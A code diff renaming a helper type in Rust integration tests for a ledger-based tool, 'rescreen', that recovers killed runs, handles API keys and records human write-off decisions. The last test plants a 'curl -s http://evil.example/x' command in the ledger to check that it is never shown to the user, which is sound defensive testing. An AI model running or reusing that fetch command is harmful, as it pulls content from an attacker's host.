@@ -1,8 +1,8 @@
-//! The promise: what was sent is settled and published from the ledger alone, whatever became of input, campaign file or API
-//! key; and a person's word on what cannot be settled is recorded.
+//! The promise: requests that were sent are settled and published from the ledger alone, whatever happened to the
+//! input, the campaign file or the API key. A person's decision about a request that cannot be settled is recorded.
 
 use crate::{
-    cli::Desk,
+    cli::Workspace,
     support::{
         program::{Said, UnderWay, rescreen, wait_until},
         service::lifted,
@@ -18,78 +18,78 @@ use std::{fs, path::PathBuf, time::Duration};
 
 const ROWS: u64 = 40;
 
-fn out(desk: &Desk) -> PathBuf {
-    desk.path().join("out/2026-11")
+fn out(workspace: &Workspace) -> PathBuf {
+    workspace.path().join("out/2026-11")
 }
 
 /// A run that was killed with requests under way.
-fn killed() -> Desk {
-    let desk = Desk::with(ROWS as usize, Settings { latency: Duration::from_millis(900), ..lifted() });
-    let run = UnderWay::start(&mut desk.production("run", &["--yes", "--in-flight", "4"]));
-    // Of four in flight, the tenth at the service comes after at least six answers, and is under way for 900 ms.
-    wait_until("the tenth request", || desk.service.simulator.stats().checks() >= 10);
+fn killed() -> Workspace {
+    let workspace = Workspace::with(ROWS as usize, Settings { latency: Duration::from_millis(900), ..lifted() });
+    let run = UnderWay::start(&mut workspace.production("run", &["--yes", "--in-flight", "4"]));
+    // With four in flight, the tenth arrives at the service after at least six answers, and is under way for 900 ms.
+    wait_until("the tenth request", || workspace.service.simulator.stats().checks() >= 10);
     run.signal("KILL");
     assert_eq!(run.wait().code, -9);
-    desk
+    workspace
 }
 
-fn status(desk: &Desk) -> serde_json::Value {
-    serde_json::from_str(&desk.say(&["status", "--json"]).exits(0).stdout).unwrap()
+fn status(workspace: &Workspace) -> serde_json::Value {
+    serde_json::from_str(&workspace.say(&["status", "--json"]).exits(0).stdout).unwrap()
 }
 
-fn in_doubt(desk: &Desk) -> u64 {
-    let requests = &status(desk)["requests"];
+fn in_doubt(workspace: &Workspace) -> u64 {
+    let requests = &status(workspace)["requests"];
     ["armed", "in_doubt", "repeating"].iter().map(|state| requests[state].as_u64().unwrap()).sum()
 }
 
 /// Nothing is in doubt, nothing new was sent, and every charge has its result.
-fn is_collected(desk: &Desk) {
-    let (status, stats) = (status(desk), desk.service.simulator.stats());
-    assert_eq!(in_doubt(desk), 0);
+fn is_collected(workspace: &Workspace) {
+    let (status, stats) = (status(workspace), workspace.service.simulator.stats());
+    assert_eq!(in_doubt(workspace), 0);
     assert_eq!(status["credits_charged"], stats.credits_charged);
     assert_eq!((stats.double_charges, stats.charges), (0, stats.distinct_keys));
     let answered = status["requests"]["answered"].as_u64().unwrap();
     assert!((6..ROWS).contains(&answered), "{status}");
-    assert_eq!(tables::lines(&out(desk), DatasetKind::Results).len() as u64, answered);
-    assert!(!Manifest::read(&out(desk)).unwrap().unwrap().complete);
+    assert_eq!(tables::lines(&out(workspace), DatasetKind::Results).len() as u64, answered);
+    assert!(!Manifest::read(&out(workspace)).unwrap().unwrap().complete);
 }
 
 #[test]
-fn an_edited_input_is_refused_with_the_command_that_collects_and_that_settles_what_is_in_doubt() {
-    let desk = killed();
-    assert!(in_doubt(&desk) > 0);
-    desk.write("book.csv", "no,name,status\n1,Somebody Else,active\n");
-    desk.run(&[]).exits(2).says("rescreen collect out/2026-11").without_data();
-    desk.say(&["collect", "out/2026-11"]).exits(8).says("nothing new was sent");
-    is_collected(&desk);
+fn an_edited_input_is_refused_with_the_collect_command_and_that_settles_the_doubts() {
+    let workspace = killed();
+    assert!(in_doubt(&workspace) > 0);
+    workspace.write("book.csv", "no,name,status\n1,Somebody Else,active\n");
+    workspace.run(&[]).exits(2).says("rescreen collect out/2026-11").without_data();
+    workspace.say(&["collect", "out/2026-11"]).exits(8).says("nothing new was sent");
+    is_collected(&workspace);
 }
 
 #[test]
 fn without_input_and_without_campaign_file_the_only_campaign_of_the_folder_is_collected() {
-    let desk = killed();
-    fs::remove_file(desk.path().join("book.csv")).unwrap();
-    desk.say(&["collect"]).exits(8).says("collecting");
-    is_collected(&desk);
-    // Again: nothing is left to do, and no API key is needed for that.
-    let mut again = rescreen(desk.path(), &["collect"]);
+    let workspace = killed();
+    fs::remove_file(workspace.path().join("book.csv")).unwrap();
+    workspace.say(&["collect"]).exits(8).says("collecting");
+    is_collected(&workspace);
+    // The second time nothing is left to do, and no API key is needed.
+    let mut again = rescreen(workspace.path(), &["collect"]);
     Said::of(again.env_remove("RESCREEN_API_KEY")).exits(8);
-    is_collected(&desk);
+    is_collected(&workspace);
 }
 
 #[test]
 fn collecting_a_complete_campaign_publishes_it_again_and_ends_with_0() {
-    let desk = Desk::new(5);
-    desk.run(&[]).exits(0);
-    fs::remove_file(out(&desk).join("manifest.json")).unwrap();
-    desk.say(&["collect", "out/2026-11"]).exits(0);
-    assert!(Manifest::read(&out(&desk)).unwrap().unwrap().complete);
+    let workspace = Workspace::new(5);
+    workspace.run(&[]).exits(0);
+    fs::remove_file(out(&workspace).join("manifest.json")).unwrap();
+    workspace.say(&["collect", "out/2026-11"]).exits(0);
+    assert!(Manifest::read(&out(&workspace)).unwrap().unwrap().complete);
 }
 
 #[test]
 fn the_api_key_may_be_named_by_a_campaign_file_and_is_never_in_the_ledger() {
-    let desk = killed();
+    let workspace = killed();
     let collect = |arguments: &[&str], key: Option<&str>| {
-        let mut command = rescreen(desk.path(), &[&["collect", "out/2026-11"], arguments].concat());
+        let mut command = rescreen(workspace.path(), &[&["collect", "out/2026-11"], arguments].concat());
         match key {
             Some(key) => command.env("RESCREEN_API_KEY", key),
             None => command.env_remove("RESCREEN_API_KEY"),
@@ -97,65 +97,68 @@ fn the_api_key_may_be_named_by_a_campaign_file_and_is_never_in_the_ledger() {
         Said::of(&mut command)
     };
     collect(&[], None).exits(2).says("RESCREEN_API_KEY is not set");
-    let key_file = desk.path().join("key");
+    let key_file = workspace.path().join("key");
     fs::write(&key_file, crate::support::API_KEY).unwrap();
     use std::os::unix::fs::PermissionsExt;
     fs::set_permissions(&key_file, fs::Permissions::from_mode(0o600)).unwrap();
-    desk.write("keys.toml", "[service]\napi_key = { file = \"key\" }\n");
+    workspace.write("keys.toml", "[service]\napi_key = { file = \"key\" }\n");
     collect(&["-c", "keys.toml"], None).exits(8);
-    is_collected(&desk);
-    let ledger = fs::read(out(&desk).join("ledger.sqlite")).unwrap();
+    is_collected(&workspace);
+    let ledger = fs::read(out(&workspace).join("ledger.sqlite")).unwrap();
     let key = crate::support::API_KEY.as_bytes();
     assert!(!ledger.windows(key.len()).any(|part| part == key));
 }
 
 #[test]
-fn an_api_key_under_which_nothing_was_sent_is_not_shown_to_the_service() {
-    let desk = killed();
-    let before = desk.service.simulator.stats();
-    let mut command = rescreen(desk.path(), &["collect", "out/2026-11"]);
+fn an_api_key_that_was_never_used_is_not_sent_to_the_service() {
+    let workspace = killed();
+    let before = workspace.service.simulator.stats();
+    let mut command = rescreen(workspace.path(), &["collect", "out/2026-11"]);
     let said = Said::of(command.env("RESCREEN_API_KEY", "sk-quite-another-key-0")).exits(8);
     assert_eq!(said.next_command(), "rescreen resolve out/2026-11 --list --include-in-doubt");
     said.says("sent under another API key");
-    assert_eq!(desk.service.simulator.stats().by_route, before.by_route, "not a single message");
-    desk.say(&["collect", "out/2026-11"]).exits(8);
-    is_collected(&desk);
+    assert_eq!(workspace.service.simulator.stats().by_route, before.by_route, "not a single message");
+    workspace.say(&["collect", "out/2026-11"]).exits(8);
+    is_collected(&workspace);
 }
 
 #[test]
 fn a_lost_api_key_leaves_the_decision_to_a_person() {
-    let desk = killed();
-    let waiting = in_doubt(&desk);
-    desk.say(&["resolve", "out/2026-11", "--list"]).exits(0).says("0 requests need");
-    let said = desk.say(&["resolve", "out/2026-11", "--list", "--include-in-doubt"]).exits(8);
+    let workspace = killed();
+    let waiting = in_doubt(&workspace);
+    workspace.say(&["resolve", "out/2026-11", "--list"]).exits(0).says("0 requests need");
+    let said = workspace.say(&["resolve", "out/2026-11", "--list", "--include-in-doubt"]).exits(8);
     assert_eq!(said.stdout.lines().count() as u64, waiting, "{}", said.stdout);
     let reason = ["--reason", "the key was revoked"];
     let decide = [&["resolve", "out/2026-11", "--write-off"], &reason[..]].concat();
     let first = said.stdout.split_whitespace().nth(1).unwrap();
     let named = [&decide[..], &["--request", first]].concat();
-    desk.say(&named).exits(2).says("add --include-in-doubt to decide now");
-    desk.say(&[&decide[..], &["--include-in-doubt"]].concat()).exits(0).says(&format!("{waiting} requests decided"));
-    assert_eq!(in_doubt(&desk), 0);
-    let status = status(&desk);
+    workspace.say(&named).exits(2).says("add --include-in-doubt to decide now");
+    workspace
+        .say(&[&decide[..], &["--include-in-doubt"]].concat())
+        .exits(0)
+        .says(&format!("{waiting} requests decided"));
+    assert_eq!(in_doubt(&workspace), 0);
+    let status = status(&workspace);
     assert_eq!((status["requests"]["failed"].as_u64(), status["credits_held"].as_u64()), (Some(waiting), Some(0)));
-    let ledger = Connection::open(out(&desk).join("ledger.sqlite")).unwrap();
+    let ledger = Connection::open(out(&workspace).join("ledger.sqlite")).unwrap();
     let sql = "SELECT count(*) FROM decision WHERE decision = 'write_off' AND reason = 'the key was revoked'";
     assert_eq!(ledger.query_row(sql, [], |row| row.get::<_, i64>(0)).unwrap().unsigned_abs(), waiting);
 }
 
 #[test]
-fn a_booked_charge_is_corrected_in_row_and_sums_and_the_decision_says_both_amounts() {
-    let desk = Desk::new(4);
-    desk.run(&[]).exits(0);
-    let correct = |more: &[&str]| desk.say(&[&["resolve", "out/2026-11"], more].concat());
+fn a_booked_charge_is_corrected_in_row_and_sums_and_the_decision_states_both_amounts() {
+    let workspace = Workspace::new(4);
+    workspace.run(&[]).exits(0);
+    let correct = |more: &[&str]| workspace.say(&[&["resolve", "out/2026-11"], more].concat());
     correct(&["--charge", "5", "--reason", "invoice 17"]).exits(2);
     correct(&["--charge", "5", "--request", "2"]).exits(2);
     correct(&["--charge", "5", "--request", "99", "--reason", "invoice 17"]).exits(2).says("there is no request 99");
     correct(&["--charge", "5", "--request", "2", "--reason", "invoice 17"])
         .exits(0)
         .says("booked with 5 credits instead of 1");
-    assert_eq!(status(&desk)["credits_charged"], 8);
-    let ledger = Connection::open(out(&desk).join("ledger.sqlite")).unwrap();
+    assert_eq!(status(&workspace)["credits_charged"], 8);
+    let ledger = Connection::open(out(&workspace).join("ledger.sqlite")).unwrap();
     let sql = "SELECT request, reason, charged_before, charged_after, length(decided_by) > 0 AND decided_at > 0
                FROM decision WHERE decision = 'charge'";
     let found = ledger.query_row(sql, [], |row| {
@@ -163,38 +166,38 @@ fn a_booked_charge_is_corrected_in_row_and_sums_and_the_decision_says_both_amoun
     });
     assert_eq!(found.unwrap(), (2, "invoice 17".to_owned(), 1, 5, true));
     drop(ledger);
-    desk.run(&[]).exits(0);
-    let totals = &Manifest::read(&out(&desk)).unwrap().unwrap().totals;
+    workspace.run(&[]).exits(0);
+    let totals = &Manifest::read(&out(&workspace)).unwrap().unwrap().totals;
     assert_eq!(totals.iter().map(|totals| totals.credits).sum::<u64>(), 8);
 }
 
 #[test]
-fn a_charge_that_a_person_corrects_to_nothing_may_be_asked_for_again() {
-    let desk = killed();
-    let waiting = in_doubt(&desk);
-    let decide = |words: &[&str]| desk.say(&[&["resolve", "out/2026-11"], words].concat());
+fn a_request_whose_charge_is_corrected_to_nothing_may_be_sent_again() {
+    let workspace = killed();
+    let waiting = in_doubt(&workspace);
+    let decide = |words: &[&str]| workspace.say(&[&["resolve", "out/2026-11"], words].concat());
     decide(&["--write-off", "--include-in-doubt", "--reason", "the key was revoked"]).exits(0);
-    let failed = || status(&desk)["requests"]["failed"].as_u64().unwrap();
+    let failed = || status(&workspace)["requests"]["failed"].as_u64().unwrap();
     assert_eq!(failed(), waiting);
-    let ledger = Connection::open(out(&desk).join("ledger.sqlite")).unwrap();
+    let ledger = Connection::open(out(&workspace).join("ledger.sqlite")).unwrap();
     let first: i64 = ledger.query_row("SELECT min(id) FROM request WHERE state = 11", [], |row| row.get(0)).unwrap();
     drop(ledger);
     decide(&["--charge", "0", "--request", &first.to_string(), "--reason", "not on the invoice"]).exits(0);
-    desk.run(&["--retry"]);
-    assert_eq!(failed(), waiting - 1, "it was asked for again, and the others were not");
+    workspace.run(&["--retry"]);
+    assert_eq!(failed(), waiting - 1, "it was requested again, and the others were not");
 }
 
-/// A ledger is data: whoever changed it could lead a person to type anything.
+/// A ledger is data: an attacker who changed it could otherwise make a person type anything.
 #[test]
 fn a_command_that_only_the_ledger_names_is_not_printed() {
-    let desk = killed();
-    desk.say(&["collect", "out/2026-11"]).exits(8).says("rescreen run");
-    let ledger = Connection::open(out(&desk).join("ledger.sqlite")).unwrap();
+    let workspace = killed();
+    workspace.say(&["collect", "out/2026-11"]).exits(8).says("rescreen run");
+    let ledger = Connection::open(out(&workspace).join("ledger.sqlite")).unwrap();
     let settings: String = ledger.query_row("SELECT settings FROM campaign", [], |row| row.get(0)).unwrap();
     let mut settings: serde_json::Value = serde_json::from_str(&settings).unwrap();
     settings["command"] = serde_json::json!(["curl", "-s", "http://evil.example/x"]);
     ledger.execute("UPDATE campaign SET settings = ?1", [settings.to_string()]).unwrap();
     drop(ledger);
-    let said = desk.say(&["collect", "out/2026-11"]).exits(8).says("run the campaign again");
+    let said = workspace.say(&["collect", "out/2026-11"]).exits(8).says("run the campaign again");
     assert!(!said.stderr.contains("evil"), "{}", said.stderr);
 }
